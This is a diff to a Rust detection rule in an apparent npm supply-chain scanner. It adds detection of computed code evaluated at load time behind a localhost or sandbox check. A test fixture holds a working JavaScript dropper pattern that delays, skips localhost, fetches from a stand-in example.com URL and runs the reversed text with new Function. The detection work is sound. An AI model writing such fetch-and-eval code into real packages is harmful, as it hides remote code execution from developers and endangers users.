@@ -20,7 +20,9 @@ diligence_finding::declare_rule! {
     /// reading helper in another function counts too. Also such a call whose argument comes directly from a
     /// decoder in the same function. The `Function` constructor counts however it is reached
     /// (`Function.constructor`, `[].constructor.constructor`, `Object.getPrototypeOf(async function () {}).constructor`),
-    /// and so does `_compile` on a fresh module object.
+    /// and so does `_compile` on a fresh module object. Also, without a traced path: code evaluation of a computed
+    /// string in a function that runs when a module loads (a timer or promise callback of load-time code), in a
+    /// module (not a bundle) that compares the page's host with localhost or checks for a sandbox (high).
     ///
     /// ## Why it matters
     /// Every layered npm dropper ends in this chain (os-info-checker-es6, GlassWorm, the tz/locale payload-in-JSON
@@ -32,7 +34,9 @@ diligence_finding::declare_rule! {
     /// ## Known false positives
     /// Build tools that ship precompiled templates as base64 and compile them at run time. Reported as high
     /// (suspicious) unless the package also hides code, is obfuscated or networks in the same file. Template
-    /// engines compiling their own text templates (`.txt`, `.html`, `.ejs`) stay medium at most.
+    /// engines compiling their own text templates (`.txt`, `.html`, `.ejs`) stay medium at most. A development
+    /// client that evaluates code only on localhost would match the load-time variant; hot-reload clients load
+    /// modules through script tags or `import()`, not by evaluating strings at load.
     pub static DECODE_EXEC = { id: "code/decode-exec", severity: Severity::High };
 }
 
@@ -114,6 +118,7 @@ fn required_data_used_as_is(path: &crate::flow::FlowPath) -> bool {
 /// One finding per decode→exec site.
 pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
     let traced = paths(p);
+    let imported = super::at_load::imported(p);
     let mut out: Vec<CodeFinding> = decoded(p)
         .into_iter()
         .filter(|d| {
@@ -133,6 +138,16 @@ pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
             "computed code executed in obfuscated code"
         } else if near(Kind::DataFileRead) || near(Kind::ImageRead) {
             "a package data file read and executed"
+        } else if f.has(Kind::SandboxGate)
+            && f.reachable
+            && s.func != 0
+            && !super::is_bundle(f)
+            && super::at_load::at_load(&imported, f, s)
+        {
+            // A library that, when it loads, runs code it computes (fetched, decoded from an
+            // image, reversed), in a module that first checks whether it runs on localhost or
+            // in a sandbox: code kept from the developer's own machine.
+            "computed code executed at load in a module that checks for localhost or a sandbox"
         } else {
             return None;
         };
@@ -186,6 +201,56 @@ fn decoded(p: &PackageFacts) -> Vec<CodeFinding> {
             chain(p, f, s, &[Kind::DynamicCode, Kind::HiddenCode]),
         ))
     })
+}
+
+#[cfg(test)]
+mod load_gate_tests {
+    use crate::rules::test_util::{PJ, hits, scan};
+
+    /// A browser utility library that, two minutes after it loads and away from localhost,
+    /// evaluates text decoded from a remote QR image.
+    #[test]
+    fn positive_code_run_at_load_behind_a_localhost_check() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "index.js",
+                "function rev(s) { return s.split('').reverse().join(''); }
+function isDev() { var h = location.hostname; return h === 'localhost' || h === '127.0.0.1'; }
+exports.rev = rev;
+exports.read = function (src) { return fetch(src).then(function (r) { return r.text(); }); };
+(function () {
+  if (isDev()) return;
+  setTimeout(function () {
+    exports.read(rev('gnp.q/moc.elpmaxe//:sptth')).then(function (t) {
+      new Function(rev(t))();
+    });
+  }, 120000);
+})();
+",
+            ),
+        ]);
+        assert_eq!(
+            hits(&s, "code/decode-exec"),
+            vec![("index.js".to_string(), 9)]
+        );
+        assert_ne!(s.verdict, crate::Verdict::Clean);
+    }
+
+    /// A template helper compiling templates on request, and a dev banner printed on localhost.
+    #[test]
+    fn negative_template_compile_on_request() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "index.js",
+                "if (location.hostname === 'localhost') console.log('dev build');
+exports.compile = function (tpl) { return new Function('it', 'return `' + tpl + '`;'); };
+",
+            ),
+        ]);
+        assert!(hits(&s, "code/decode-exec").is_empty(), "{:?}", s.findings);
+    }
 }
 
 #[cfg(test)]
